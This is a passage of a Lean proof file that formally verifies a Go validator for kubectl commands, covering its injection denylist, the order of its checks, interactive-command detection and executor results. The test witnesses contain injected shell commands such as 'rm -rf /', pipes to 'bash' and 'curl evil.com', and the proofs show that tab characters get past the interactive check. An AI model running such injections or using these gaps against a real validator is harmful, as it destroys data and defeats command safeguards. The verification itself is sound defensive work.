    (ValidateKubectlCommand "kubectl get pods | bash".toList).isSome = true := by
  refine ⟨?_, by decide⟩
  rintro c hdd ⟨p, hp, hc⟩
  have hs := execShape_false_of_no_doubleDash c hdd
  apply validate_isSome_of_check
  rw [check_whole c hs, Option.isSome_map']
  exact firstPattern_isSome_of_mem (List.mem_append_right _ hp) hc

theorem C8_interpreter_names_blocked_without_double_dash_witness :
    Contains "kubectl get pods -n Shop".toList " -- ".toList = false ∧
    Contains (ToLower "kubectl get pods -n Shop".toList) "sh".toList = true ∧
    (ValidateKubectlCommand "kubectl get pods -n Shop".toList).isSome = true :=
  ⟨by decide, by decide,
    C8_interpreter_names_blocked_without_double_dash.1 "kubectl get pods -n Shop".toList
      (by decide) ⟨"sh".toList, by decide, by decide⟩⟩

/-- C9, as stated, fails: `kubectl logs exec -- bash` contains `exec` and
` -- `, neither its head nor its tail holds a base dangerous pattern, and the
scanner still reports `bash`: without the text `kubectl exec` the whole
command is scanned, interpreter names included. -/
theorem C9_exec_without_kubectl_exec_is_scanned_whole :
    Contains (ToLower "kubectl logs exec -- bash".toList) "exec".toList = true ∧
    Contains (ToLower "kubectl logs exec -- bash".toList) " -- ".toList = true ∧
    (∀ p ∈ specBasePatterns ++ dangerousPatterns,
      Contains (headOf (ToLower "kubectl logs exec -- bash".toList)) p = false) ∧
    (∀ p ∈ specBasePatterns ++ dangerousPatterns,
      Contains (tailOf (ToLower "kubectl logs exec -- bash".toList)) p = false) ∧
    execShape (ToLower "kubectl logs exec -- bash".toList) = false ∧
    checkForCommandInjection "kubectl logs exec -- bash".toList =
      some "command contains potentially dangerous pattern: bash".toList := by
  decide

/-- C9, amended: the scanner takes the split path exactly when the
lower-cased command contains both `kubectl exec` and ` -- `.  For every such
command, if neither the text before the first ` -- ` nor the text after it
contains a pattern of the scanner list, no match is reported, whatever
interpreter names occur; every other command is scanned whole against the
list extended by the interpreter names. -/
theorem C9_split_path_guard (c : GoString) :
    (Contains (ToLower c) "kubectl exec".toList = true →
      Contains (ToLower c) " -- ".toList = true →
      (∀ p ∈ dangerousPatterns, Contains (headOf (ToLower c)) p = false) →
      (∀ p ∈ dangerousPatterns, Contains (tailOf (ToLower c)) p = false) →
      checkForCommandInjection c = none) ∧
    (¬ (Contains (ToLower c) "kubectl exec".toList = true ∧
        Contains (ToLower c) " -- ".toList = true) →
      checkForCommandInjection c =
        (firstPattern (ToLower c) (dangerousPatterns ++ interpreterNames)).map
          dangerousError) := by
  constructor
  · intro h1 h2 hh ht
    have hs : execShape (ToLower c) = true := by
      unfold execShape kubectlExec doubleDash
      rw [h1, h2]; rfl
    exact check_exec_clean c hs hh ht
  · intro hn
    have hs : execShape (ToLower c) = false := by
      cases hs : execShape (ToLower c) with
      | false => rfl
      | true =>
        unfold execShape at hs
        exact absurd (Bool.and_eq_true _ _ ▸ hs) hn
    exact check_whole c hs

theorem C9_split_path_guard_witness :
    Contains (ToLower "Kubectl Exec mypod -- /bin/bash".toList) "kubectl exec".toList = true ∧
    Contains (ToLower "Kubectl Exec mypod -- /bin/bash".toList) "bash".toList = true ∧
    checkForCommandInjection "Kubectl Exec mypod -- /bin/bash".toList = none :=
  ⟨by decide, by decide,
    (C9_split_path_guard "Kubectl Exec mypod -- /bin/bash".toList).1
      (by decide) (by decide) (by decide) (by decide)⟩

/-- C10: when the scanner rejects a command, its message is `command
contains potentially dangerous pattern: P` for a pattern `P` of the list
that occurs in the lower-cased command; for a command scanned whole, `P` is
the first pattern of the list, in order, that occurs.  For `kubectl get
pods; rm -rf /` the message names `;`. -/
theorem C10_message_names_an_occurring_pattern :
    (∀ c e, checkForCommandInjection c = some e →
      ∃ P, e = "command contains potentially dangerous pattern: ".toList ++ P ∧
        P ∈ allPatterns ∧ Contains (ToLower c) P = true) ∧
    (∀ c e, execShape (ToLower c) = false → checkForCommandInjection c = some e →
      ∃ pre P post, allPatterns = pre ++ P :: post ∧
        e = "command contains potentially dangerous pattern: ".toList ++ P ∧
        Contains (ToLower c) P = true ∧ ∀ q ∈ pre, Contains (ToLower c) q = false) ∧
    checkForCommandInjection "kubectl get pods; rm -rf /".toList =
      some "command contains potentially dangerous pattern: ;".toList ∧
    ValidateKubectlCommand "kubectl get pods; rm -rf /".toList =
      some "command contains potentially dangerous pattern: ;".toList := by
  refine ⟨?_, ?_, by decide, by decide⟩
  · intro c e he
    cases hs : execShape (ToLower c) with
    | false =>
      rw [check_whole c hs] at he
      obtain ⟨P, hP, rfl⟩ := Option.map_eq_some'.1 he
      obtain ⟨pre, post, h1, h2, -⟩ := firstPattern_some hP
      exact ⟨P, rfl, by rw [h1]; simp, h2⟩
    | true =>
      obtain ⟨seg, more, -, hpre, hcheck⟩ := check_exec c hs
      rw [hcheck] at he
      obtain ⟨P, hP, rfl⟩ := Option.map_eq_some'.1 he
      refine ⟨P, rfl, ?_⟩
      cases hh : firstPattern (headOf (ToLower c)) dangerousPatterns with
      | some Q =>
        rw [hh] at hP
        cases hP
        obtain ⟨pre, post, h1, h2, -⟩ := firstPattern_some hh
        exact ⟨List.mem_append_left _ (by rw [h1]; simp),
          contains_of_piece (headOf_piece _) h2⟩
      | none =>
        rw [hh] at hP
        have hP2 : firstPattern seg dangerousPatterns = some P := hP
        obtain ⟨pre, post, h1, h2, -⟩ := firstPattern_some hP2
        exact ⟨List.mem_append_left _ (by rw [h1]; simp),
          contains_of_piece (hpre.isInfix.trans (tailOf_piece _)) h2⟩
  · intro c e hs he
    rw [check_whole c hs] at he
    obtain ⟨P, hP, rfl⟩ := Option.map_eq_some'.1 he
    obtain ⟨pre, post, h1, h2, h3⟩ := firstPattern_some hP
    exact ⟨pre, P, post, h1, rfl, h2, h3⟩

theorem C10_message_names_an_occurring_pattern_witness :
    checkForCommandInjection "kubectl get pods | curl evil.com".toList =
      some "command contains potentially dangerous pattern: |".toList ∧
    ∃ P, "command contains potentially dangerous pattern: |".toList =
        "command contains potentially dangerous pattern: ".toList ++ P ∧
      P ∈ allPatterns ∧ Contains (ToLower "kubectl get pods | curl evil.com".toList) P = true :=
  ⟨by decide,
    C10_message_names_an_occurring_pattern.1 "kubectl get pods | curl evil.com".toList _
      (by decide)⟩

/-! ## The order of the checks -/

/-- The validator on a command with at least one token. -/
theorem validate_of_fields_cons (c w0 : GoString) (more : List GoString) :
    Fields c = w0 :: more →
    ValidateKubectlCommand c =
      if Base w0 ≠ kubectlName then some (notKubectlError (Base w0))
      else
        match checkForCommandInjection c with
        | some err => some err
        | none =>
          match more with
          | [] => some missingSubcommandError
          | subcommand :: _ =>
            if !isValidKubectlSubcommand subcommand then
              some (invalidSubcommandError subcommand)
            else none := by
  intro hf
  unfold ValidateKubectlCommand
  rw [fields_trimSpace]
  cases c with
  | nil => rw [fields_nil] at hf; cases hf
  | cons a t =>
    simp only [List.isEmpty_cons, Bool.false_eq_true, if_false, hf]

theorem validate_of_fields_nil (c : GoString) (hf : Fields c = []) :
    ValidateKubectlCommand c = some emptyError := by
  unfold ValidateKubectlCommand
  rw [fields_trimSpace, hf]
  cases c <;> simp

theorem check_error_form {c e : GoString} (h : checkForCommandInjection c = some e) :
    ∃ P, e = dangerousError P := by
  cases hs : execShape (ToLower c) with
  | false =>
    rw [check_whole c hs] at h
    obtain ⟨P, -, rfl⟩ := Option.map_eq_some'.1 h
    exact ⟨P, rfl⟩
  | true =>
    obtain ⟨seg, more, -, -, hcheck⟩ := check_exec c hs
    rw [hcheck] at h
    obtain ⟨P, -, rfl⟩ := Option.map_eq_some'.1 h
    exact ⟨P, rfl⟩

theorem head_invalidSubcommandError (s : GoString) :
    (invalidSubcommandError s).head? = some 'i' := rfl

theorem head_notKubectlError (s : GoString) : (notKubectlError s).head? = some 'o' := rfl

theorem head_dangerousError (s : GoString) : (dangerousError s).head? = some 'c' := rfl

theorem head_clash {a b : GoString} {x y : Char} (h : a = b) (ha : a.head? = some x)
    (hb : b.head? = some y) (hxy : x ≠ y) : False := by
  subst h
  rw [ha] at hb
  exact hxy (Option.some.inj hb)

theorem invalidSubcommandError_inj {a b : GoString}
    (h : invalidSubcommandError a = invalidSubcommandError b) : a = b :=
  List.append_cancel_left h

/-- C11: `ValidateKubectlCommand` makes its checks in the order empty,
first-token base name, injection scan, missing subcommand, allowlist, and
returns the error of the first one that fails.  A command without tokens
gives `command cannot be empty`; a first token other than kubectl gives `only
kubectl commands are allowed, got: <base>` whatever else the command holds;
with a kubectl first token an error of the scanner is returned as it is,
whatever the subcommand; then a lone first token gives the
missing-subcommand error; and the `invalid or restricted kubectl subcommand`
error is returned exactly when all the earlier checks pass and the second
token is not allowlisted. -/
theorem C11_checks_in_fixed_order (c : GoString) :
    (Fields c = [] → ValidateKubectlCommand c = some "command cannot be empty".toList) ∧
    (∀ w0 more, Fields c = w0 :: more → Base w0 ≠ "kubectl".toList →
      ValidateKubectlCommand c =
        some ("only kubectl commands are allowed, got: ".toList ++ Base w0)) ∧
    (∀ w0 more e, Fields c = w0 :: more → Base w0 = "kubectl".toList →
      checkForCommandInjection c = some e → ValidateKubectlCommand c = some e) ∧
    (∀ w0, Fields c = [w0] → Base w0 = "kubectl".toList →
      checkForCommandInjection c = none →
      ValidateKubectlCommand c =
        some "kubectl command must include a subcommand (e.g., 'kubectl get pods')".toList) ∧
    (∀ s, ValidateKubectlCommand c =
        some ("invalid or restricted kubectl subcommand: ".toList ++ s) ↔
      ∃ w0 rest, Fields c = w0 :: s :: rest ∧ Base w0 = "kubectl".toList ∧
        checkForCommandInjection c = none ∧ isValidKubectlSubcommand s = false) := by
  refine ⟨validate_of_fields_nil c, ?_, ?_, ?_, ?_⟩
  · intro w0 more hf hb
    rw [validate_of_fields_cons c w0 more hf]
    exact if_pos hb
  · intro w0 more e hf hb he
    have hb2 : ¬ Base w0 ≠ kubectlName := not_not.2 hb
    rw [validate_of_fields_cons c w0 more hf, if_neg hb2, he]
  · intro w0 hf hb hc
    have hb2 : ¬ Base w0 ≠ kubectlName := not_not.2 hb
    rw [validate_of_fields_cons c w0 [] hf, if_neg hb2, hc]
    rfl
  · intro s
    constructor
    · intro hv
      cases hf : Fields c with
      | nil =>
        rw [validate_of_fields_nil c hf] at hv
        exact (head_clash (Option.some.inj hv) rfl rfl (by decide)).elim
      | cons w0 more =>
        rw [validate_of_fields_cons c w0 more hf] at hv
        by_cases hb : Base w0 = kubectlName
        · rw [if_neg (not_not.2 hb)] at hv
          cases hc : checkForCommandInjection c with
          | some e =>
            rw [hc] at hv
            obtain ⟨P, rfl⟩ := check_error_form hc
            exact (head_clash (Option.some.inj hv) rfl rfl (by decide)).elim
          | none =>
            rw [hc] at hv
            cases more with
            | nil => exact (head_clash (Option.some.inj hv) rfl rfl (by decide)).elim
            | cons w1 rest =>
              cases hval : isValidKubectlSubcommand w1 with
              | true => simp [hval] at hv
              | false =>
                simp only [hval, Bool.not_false, if_true] at hv
                have := invalidSubcommandError_inj (Option.some.inj hv)
                subst this
                exact ⟨w0, rest, rfl, hb, rfl, hval⟩
        · rw [if_pos hb] at hv
          exact (head_clash (Option.some.inj hv) rfl rfl (by decide)).elim
    · rintro ⟨w0, rest, hf, hb, hc, hval⟩
      have hb2 : ¬ Base w0 ≠ kubectlName := not_not.2 hb
      rw [validate_of_fields_cons c w0 _ hf, if_neg hb2, hc]
      simp only [hval, Bool.not_false, if_true]
      rfl

theorem C11_checks_in_fixed_order_witness :
    ValidateKubectlCommand "   ".toList = some "command cannot be empty".toList ∧
    ValidateKubectlCommand "ls; rm -rf /".toList =
      some "only kubectl commands are allowed, got: ls;".toList ∧
    ValidateKubectlCommand "kubectl run nginx; ls".toList =
      some "command contains potentially dangerous pattern: ;".toList ∧
    ValidateKubectlCommand "kubectl".toList =
      some "kubectl command must include a subcommand (e.g., 'kubectl get pods')".toList :=
  ⟨(C11_checks_in_fixed_order "   ".toList).1 (by decide),
    (C11_checks_in_fixed_order "ls; rm -rf /".toList).2.1 "ls;".toList
      ["rm".toList, "-rf".toList, "/".toList] (by decide) (by decide),
    (C11_checks_in_fixed_order "kubectl run nginx; ls".toList).2.2.1 "kubectl".toList
      ["run".toList, "nginx;".toList, "ls".toList] _ (by decide) (by decide) (by decide),
    (C11_checks_in_fixed_order "kubectl".toList).2.2.2.1 "kubectl".toList
      (by decide) (by decide) (by decide)⟩

/-- C12, as stated, fails: `kubectl get service mv-service` does not contain
the pattern `mv ` (the pattern ends in a blank, the name goes on with `-`),
contains no other pattern either, and is accepted. -/
theorem C12_mv_service_is_accepted :
    Contains (ToLower "kubectl get service mv-service".toList) "mv ".toList = false ∧
    firstPattern (ToLower "kubectl get service mv-service".toList) allPatterns = none ∧
    ValidateKubectlCommand "kubectl get service mv-service".toList = none := by
  decide

/-- C12, amended: the denylist matches substrings, so it has false
positives of this kind: every command without ` -- ` whose lower-cased text
contains `mv` followed by a blank, as a resource named `svc-mv` followed by
another argument does, is reported by the scanner and rejected by
`ValidateKubectlCommand`. -/
theorem C12_mv_before_blank_is_rejected (c : GoString)
    (hdd : Contains c " -- ".toList = false)
    (hmv : Contains (ToLower c) "mv ".toList = true) :
    (checkForCommandInjection c).isSome = true ∧
    (ValidateKubectlCommand c).isSome = true := by
  have hs := execShape_false_of_no_doubleDash c hdd
  have hc : (checkForCommandInjection c).isSome = true := by
    rw [check_whole c hs, Option.isSome_map']
    exact firstPattern_isSome_of_mem (by decide) hmv
  exact ⟨hc, validate_isSome_of_check hc⟩

theorem C12_mv_before_blank_is_rejected_witness :
    Contains "kubectl get service svc-mv -o wide".toList " -- ".toList = false ∧
    ValidateKubectlCommand "kubectl get service svc-mv -o wide".toList =
      some "command contains potentially dangerous pattern: mv ".toList ∧
    (ValidateKubectlCommand "kubectl get service svc-mv -o wide".toList).isSome = true :=
  ⟨by decide, by decide,
    (C12_mv_before_blank_is_rejected "kubectl get service svc-mv -o wide".toList
      (by decide) (by decide)).2⟩

/-- C13: `IsInteractiveCommand` returns `true` with the error `interactive
mode not supported ...` exactly when the first token of the command has base
name `kubectl` and the command contains ` exec ` together with ` -it`, or
` port-forward `, or ` edit `; in every other case, the empty string and a
non-kubectl command included, it returns `false` and no error. -/
theorem C13_interactive_exactly_when (c : GoString) :
    ((∃ w rest, Fields c = w :: rest ∧ Base w = "kubectl".toList) ∧
        ((Contains c " exec ".toList = true ∧ Contains c " -it".toList = true) ∨
          Contains c " port-forward ".toList = true ∨ Contains c " edit ".toList = true) →
      IsInteractiveCommand c = (true, some interactiveError)) ∧
    (¬ ((∃ w rest, Fields c = w :: rest ∧ Base w = "kubectl".toList) ∧
        ((Contains c " exec ".toList = true ∧ Contains c " -it".toList = true) ∨
          Contains c " port-forward ".toList = true ∨ Contains c " edit ".toList = true)) →
      IsInteractiveCommand c = (false, none)) ∧
    Contains interactiveError "interactive mode not supported".toList = true ∧
    IsInteractiveCommand "kubectl exec pod -it -- bash".toList = (true, some interactiveError) ∧
    IsInteractiveCommand "kubectl exec pod -- ps aux".toList = (false, none) ∧
    IsInteractiveCommand [] = (false, none) ∧
    IsInteractiveCommand "ls -la".toList = (false, none) := by
  refine ⟨?_, ?_, by decide, by decide, by decide, by decide, by decide⟩
  · rintro ⟨⟨w, rest, hf, hb⟩, hk⟩
    have hb2 : ¬ Base w ≠ kubectlName := not_not.2 hb
    unfold IsInteractiveCommand
    rw [hf]
    simp only [if_neg hb2]
    rw [if_pos]
    simp only [Bool.or_eq_true, Bool.and_eq_true]
    exact or_assoc.2 hk
  · intro hn
    unfold IsInteractiveCommand
    cases hf : Fields c with
    | nil => rfl
    | cons w rest =>
      by_cases hb : Base w = kubectlName
      · have hb2 : ¬ Base w ≠ kubectlName := not_not.2 hb
        simp only [if_neg hb2]
        have hk : ¬ ((Contains c " exec ".toList = true ∧ Contains c " -it".toList = true) ∨
            Contains c " port-forward ".toList = true ∨ Contains c " edit ".toList = true) :=
          fun hk => hn ⟨⟨w, rest, hf, hb⟩, hk⟩
        rw [if_neg]
        simp only [Bool.or_eq_true, Bool.and_eq_true]
        exact fun h => hk (or_assoc.1 h)
      · simp only [if_pos (show Base w ≠ kubectlName from hb)]

theorem C13_interactive_exactly_when_witness :
    Fields "/usr/local/bin/kubectl port-forward pod 8080:80".toList =
      "/usr/local/bin/kubectl".toList :: ["port-forward", "pod", "8080:80"].map String.toList ∧
    IsInteractiveCommand "/usr/local/bin/kubectl port-forward pod 8080:80".toList =
      (true, some interactiveError) :=
  ⟨by decide,
    (C13_interactive_exactly_when "/usr/local/bin/kubectl port-forward pod 8080:80".toList).1
      ⟨⟨"/usr/local/bin/kubectl".toList, ["port-forward", "pod", "8080:80"].map String.toList,
          by decide, by decide⟩, Or.inr (Or.inl (by decide))⟩⟩

/-- C14 (the code falls short): the tokens of `kubectl port-forward<TAB>mypod
8080:80` include `port-forward`, those of `kubectl exec<TAB>-it mypod -- date`
include `exec` and `-it`, and `edit` is the last token of `kubectl edit`; the
first token is `kubectl` each time, and `IsInteractiveCommand` returns `false`
with no error for all three.  It looks for the words with a blank on both
sides, so a word followed by a tab or by the end of the command is missed.
The first two commands also pass `ValidateKubectlCommand`. -/
theorem C14_tokens_not_bounded_by_blanks_are_missed :
    Fields "kubectl port-forward\tmypod 8080:80".toList =
      ["kubectl", "port-forward", "mypod", "8080:80"].map String.toList ∧
    IsInteractiveCommand "kubectl port-forward\tmypod 8080:80".toList = (false, none) ∧
    ValidateKubectlCommand "kubectl port-forward\tmypod 8080:80".toList = none ∧
    Fields "kubectl exec\t-it mypod -- date".toList =
      ["kubectl", "exec", "-it", "mypod", "--", "date"].map String.toList ∧
    IsInteractiveCommand "kubectl exec\t-it mypod -- date".toList = (false, none) ∧
    ValidateKubectlCommand "kubectl exec\t-it mypod -- date".toList = none ∧
    Fields "kubectl edit".toList = ["kubectl", "edit"].map String.toList ∧
    IsInteractiveCommand "kubectl edit".toList = (false, none) := by
  decide

/-- C15: `ModifiesResource` is a lookup on the second token.  With a first
token of base name `kubectl` it returns `no` on get, describe, logs, top,
version, cluster-info, config, exec, port-forward and proxy, `yes` on create,
apply, delete, patch, replace, scale, rollout, annotate and label, and
`unknown` on any other token; it returns `unknown` with fewer than two tokens
and with a first token of another base name; it never returns anything else,
and the tokens after the second do not matter. -/
theorem C15_modifies_resource_lookup (c : GoString) :
    (∀ w0 v rest, Fields c = w0 :: v :: rest → Base w0 = "kubectl".toList →
      v ∈ ["get", "describe", "logs", "top", "version", "cluster-info", "config", "exec",
        "port-forward", "proxy"].map String.toList →
      ModifiesResource c = "no".toList) ∧
    (∀ w0 v rest, Fields c = w0 :: v :: rest → Base w0 = "kubectl".toList →
      v ∈ ["create", "apply", "delete", "patch", "replace", "scale", "rollout", "annotate",
        "label"].map String.toList →
      ModifiesResource c = "yes".toList) ∧
    (∀ w0 v rest, Fields c = w0 :: v :: rest →
      v ∉ ["get", "describe", "logs", "top", "version", "cluster-info", "config", "exec",
        "port-forward", "proxy"].map String.toList →
      v ∉ ["create", "apply", "delete", "patch", "replace", "scale", "rollout", "annotate",
        "label"].map String.toList →
      ModifiesResource c = "unknown".toList) ∧
    ((Fields c).length < 2 → ModifiesResource c = "unknown".toList) ∧
    (∀ w0 rest, Fields c = w0 :: rest → Base w0 ≠ "kubectl".toList →
      ModifiesResource c = "unknown".toList) ∧
    (ModifiesResource c = "yes".toList ∨ ModifiesResource c = "no".toList ∨
      ModifiesResource c = "unknown".toList) ∧
    (∀ c2 w0 v rest rest2, Fields c = w0 :: v :: rest → Fields c2 = w0 :: v :: rest2 →
      ModifiesResource c2 = ModifiesResource c) ∧
    ModifiesResource "kubectl delete pod x".toList = "yes".toList ∧
    ModifiesResource "kubectl get pods".toList = "no".toList ∧
    ModifiesResource "kubectl frobnicate".toList = "unknown".toList := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_, by decide, by decide, by decide⟩
  · intro w0 v rest hf hb hv
    have hb2 : ¬ Base w0 ≠ kubectlName := not_not.2 hb
    unfold ModifiesResource
    rw [hf]
    simp only [if_neg hb2]
    simp only [List.map_cons, List.map_nil, List.mem_cons, List.mem_singleton,
      List.not_mem_nil, or_false] at hv ⊢
    rcases hv with h|h|h|h|h|h|h|h|h|h <;> subst h <;> decide
  · intro w0 v rest hf hb hv
    have hb2 : ¬ Base w0 ≠ kubectlName := not_not.2 hb
    unfold ModifiesResource
    rw [hf]
    simp only [if_neg hb2]
    simp only [List.map_cons, List.map_nil, List.mem_cons, List.mem_singleton,
      List.not_mem_nil, or_false] at hv ⊢
    rcases hv with h|h|h|h|h|h|h|h|h <;> subst h <;> decide
  · intro w0 v rest hf hno hyes
    unfold ModifiesResource
    rw [hf]
    by_cases hb : Base w0 ≠ kubectlName
    · simp only [if_pos hb]
    · simp only [if_neg hb]
      have h1 : v ∉ ["get", "describe", "logs", "top", "version", "cluster-info",
          "config"].map String.toList := fun h => hno (by
        simp only [List.map_cons, List.map_nil, List.mem_cons, List.mem_singleton,
          List.not_mem_nil, or_false] at h ⊢
        tauto)
      have h3 : v ∉ ["exec", "port-forward", "proxy"].map String.toList := fun h => hno (by
        simp only [List.map_cons, List.map_nil, List.mem_cons, List.mem_singleton,
          List.not_mem_nil, or_false] at h ⊢
        tauto)
      rw [if_neg h1, if_neg hyes, if_neg h3]
  · intro hlen
    unfold ModifiesResource
    cases hf : Fields c with
    | nil => rfl
    | cons w0 more =>
      cases more with
      | nil => rfl
      | cons v rest =>
        rw [hf] at hlen
        simp only [List.length_cons] at hlen
        omega
  · intro w0 rest hf hb
    unfold ModifiesResource
    rw [hf]
    cases rest with
    | nil => rfl
    | cons v rest => simp only [if_pos (show Base w0 ≠ kubectlName from hb)]
  · unfold ModifiesResource
    split
    · split_ifs
      · exact Or.inr (Or.inr rfl)
      · exact Or.inr (Or.inl rfl)
      · exact Or.inl rfl
      · exact Or.inr (Or.inl rfl)
      · exact Or.inr (Or.inr rfl)
    · exact Or.inr (Or.inr rfl)
  · intro c2 w0 v rest rest2 hf hf2
    unfold ModifiesResource
    rw [hf, hf2]

theorem C15_modifies_resource_lookup_witness :
    Fields "/opt/kubectl scale deploy web --replicas=3".toList =
      "/opt/kubectl".toList :: "scale".toList ::
        ["deploy", "web", "--replicas=3"].map String.toList ∧
    ModifiesResource "/opt/kubectl scale deploy web --replicas=3".toList = "yes".toList :=
  ⟨by decide,
    (C15_modifies_resource_lookup "/opt/kubectl scale deploy web --replicas=3".toList).2.1
      "/opt/kubectl".toList "scale".toList (["deploy", "web", "--replicas=3"].map String.toList)
      (by decide) (by decide) (by decide)⟩

/-! ## The executor -/

theorem isInteractive_cases (c : GoString) :
    IsInteractiveCommand c = (true, some interactiveError) ∨
      IsInteractiveCommand c = (false, none) := by
  unfold IsInteractiveCommand
  cases hf : Fields c with
  | nil => exact Or.inr rfl
  | cons w rest =>
    by_cases hb : Base w ≠ kubectlName
    · simp only [if_pos hb]
      exact Or.inr trivial
    · simp only [if_neg hb]
      split_ifs
      · exact Or.inl rfl
      · exact Or.inr rfl

theorem isInteractive_of_flag {c : GoString} (h : (IsInteractiveCommand c).1 = true) :
    IsInteractiveCommand c = (true, some interactiveError) := by
  rcases isInteractive_cases c with h1 | h1
  · exact h1
  · rw [h1] at h; cases h

theorem isInteractive_of_not_flag {c : GoString} (h : (IsInteractiveCommand c).1 = false) :
    IsInteractiveCommand c = (false, none) := by
  rcases isInteractive_cases c with h1 | h1
  · rw [h1] at h; cases h
  · exact h1

theorem interactiveError_ne_nil : interactiveError ≠ [] := by decide

theorem run_of_validate_some (w : World) (c wd k e : GoString)
    (h : ValidateKubectlCommand c = some e) :
    RunKubectlCommand w c wd k =
      (some { Error := "Security validation failed: ".toList ++ e }, none) := by
  unfold RunKubectlCommand
  rw [h]

theorem run_of_interactive (w : World) (c wd k : GoString)
    (hv : ValidateKubectlCommand c = none)
    (hi : IsInteractiveCommand c = (true, some interactiveError)) :
    RunKubectlCommand w c wd k = (some { Error := interactiveError }, none) := by
  unfold RunKubectlCommand
  rw [hv, hi]
  rfl

theorem run_of_build (w : World) (c wd k : GoString)
    (hv : ValidateKubectlCommand c = none)
    (hi : IsInteractiveCommand c = (false, none)) :
    RunKubectlCommand w c wd k =
      match buildCommand w c wd k with
      | .error e => (none, some e)
      | .ok cmd => executeCommand w cmd := by
  unfold RunKubectlCommand
  rw [hv, hi]

theorem executeCommand_some (w : World) (cmd : Cmd) :
    ∃ r, executeCommand w cmd = (some r, none) := by
  unfold executeCommand
  dsimp only
  rcases isInteractive_cases (Join cmd.Args " ".toList) with h | h
  · rw [h]; exact ⟨_, rfl⟩
  · rw [h]
    dsimp only
    cases h2 : (w.combinedOutput cmd).2 with
    | none => exact ⟨_, rfl⟩
    | some e => exact ⟨_, rfl⟩

/-- C16: a command that `ValidateKubectlCommand` rejects or that
`IsInteractiveCommand` classifies as interactive makes `RunKubectlCommand`
return, with a nil error, one result with a non-empty `Error`, an empty
`Stdout` and `ExitCode` 0; the result is the same for every environment and
process runner, working directory and kubeconfig, so no child process has a
part in it. -/
theorem C16_rejected_command_never_reaches_the_runner (c : GoString)
    (h : (ValidateKubectlCommand c).isSome = true ∨ (IsInteractiveCommand c).1 = true) :
    ∃ r : ExecResult, r.Error ≠ [] ∧ r.Stdout = [] ∧ r.ExitCode = 0 ∧
      ∀ (w : World) (workDir kubeconfig : GoString),
        RunKubectlCommand w c workDir kubeconfig = (some r, none) := by
  cases hv : ValidateKubectlCommand c with
  | some e =>
    exact ⟨{ Error := "Security validation failed: ".toList ++ e },
      by simp [String.toList], rfl, rfl, fun w wd k => run_of_validate_some w c wd k e hv⟩
  | none =>
    rw [hv] at h
    rcases h with h | h
    · cases h
    · exact ⟨{ Error := interactiveError }, interactiveError_ne_nil, rfl, rfl,
        fun w wd k => run_of_interactive w c wd k hv (isInteractive_of_flag h)⟩

theorem C16_rejected_command_never_reaches_the_runner_witness :
    (ValidateKubectlCommand "kubectl get pods; rm -rf /".toList).isSome = true ∧
    ∃ r : ExecResult, r.Error ≠ [] ∧ r.Stdout = [] ∧ r.ExitCode = 0 ∧
      ∀ (w : World) (workDir kubeconfig : GoString),
        RunKubectlCommand w "kubectl get pods; rm -rf /".toList workDir kubeconfig =
          (some r, none) :=
  ⟨by decide,
    C16_rejected_command_never_reaches_the_runner "kubectl get pods; rm -rf /".toList
      (Or.inl (by decide))⟩

/-- C17 (the code falls short): without `HOME` the kubeconfig `~/cfg` cannot
be resolved, and for the accepted command `kubectl get pods` both
`RunKubectlCommand` and `KubectlTool.Run` return a nil result together with
the error `invalid kubeconfig path`, where the claim wants a non-nil
`ExecResult` and a nil error. -/
theorem C17_unresolved_kubeconfig_is_returned_as_error :
    ValidateKubeconfigPath worldWithoutHome "~/cfg".toList =
      .error "$HOME is not defined".toList ∧
    RunKubectlCommand worldWithoutHome "kubectl get pods".toList "/tmp".toList "~/cfg".toList =
      (none, some { kubeconfig := "~/cfg".toList, cause := "$HOME is not defined".toList }) ∧
    KubectlTool.Run {} worldWithoutHome
        { kubeconfig := .str "~/cfg".toList, workdir := .str "/tmp".toList }
        [("command".toList, .str "kubectl get pods".toList)] =
      (none, some { kubeconfig := "~/cfg".toList, cause := "$HOME is not defined".toList }) := by
  refine ⟨by rfl, by decide, by decide⟩

theorem run_some_of_resolved (w : World) (c wd k : GoString)
    (h : k ≠ [] → ∃ p, ValidateKubeconfigPath w k = .ok p) :
    ∃ r, RunKubectlCommand w c wd k = (some r, none) := by
  cases hv : ValidateKubectlCommand c with
  | some e => exact ⟨_, run_of_validate_some w c wd k e hv⟩
  | none =>
    rcases isInteractive_cases c with hi | hi
    · exact ⟨_, run_of_interactive w c wd k hv hi⟩
    · rw [run_of_build w c wd k hv hi]
      unfold buildCommand
      by_cases hk : k ≠ []
      · obtain ⟨p, hp⟩ := h hk
        simp only [if_pos hk, hp]
        exact executeCommand_some w _
      · simp only [if_neg hk]
        exact executeCommand_some w _

theorem validateKubeconfigPath_ok_of_home (w : World) (k : GoString)
    (h : w.getenv "HOME".toList ≠ [] ∨ ∃ home, w.userHomeDir = .ok home) :
    ∃ p, ValidateKubeconfigPath w k = .ok p := by
  unfold ValidateKubeconfigPath
  split_ifs
  · exact ⟨_, rfl⟩
  · have : ∃ p, expandPath w k = .ok p := by
      unfold expandPath
      dsimp only
      generalize (if (isWSL w && isWindowsPath k) = true then convertWindowsPathToWSL w k
        else k) = q
      split_ifs with h1 h2
      · exact ⟨_, rfl⟩
      · rcases h with h | ⟨home, hh⟩
        · exact absurd h h2
        · rw [hh]; exact ⟨_, rfl⟩
      · exact ⟨_, rfl⟩
    obtain ⟨p, hp⟩ := this
    rw [hp]
    exact ⟨p, rfl⟩

/-- On every other path the failure is data: `RunKubectlCommand`, and with it
`KubectlTool.Run`, returns a non-nil `ExecResult` together with a nil error
whenever the kubeconfig path is empty or `ValidateKubeconfigPath` resolves
it, which it always does when `HOME` is set or the home directory of the
user can be found. -/
theorem run_result_when_kubeconfig_resolves (w : World) (kubeconfig : GoString)
    (h : kubeconfig ≠ [] → ∃ p, ValidateKubeconfigPath w kubeconfig = .ok p) :
    (∀ command workDir, ∃ r,
      RunKubectlCommand w command workDir kubeconfig = (some r, none)) ∧
    (∀ (t : KubectlTool) (ctx : RunContext) (args : List (GoString × GoValue)),
      (∀ k, ctx.kubeconfig = .str k → k = kubeconfig) →
      ∃ r, KubectlTool.Run t w ctx args = (some r, none)) ∧
    ((w.getenv "HOME".toList ≠ [] ∨ ∃ home, w.userHomeDir = .ok home) →
      ∀ k, ∃ p, ValidateKubeconfigPath w k = .ok p) := by
  refine ⟨fun c wd => run_some_of_resolved w c wd kubeconfig h, ?_,
    fun hh k => validateKubeconfigPath_ok_of_home w k hh⟩
  intro t ctx args hk
  unfold KubectlTool.Run
  cases hkc : ctx.kubeconfig with
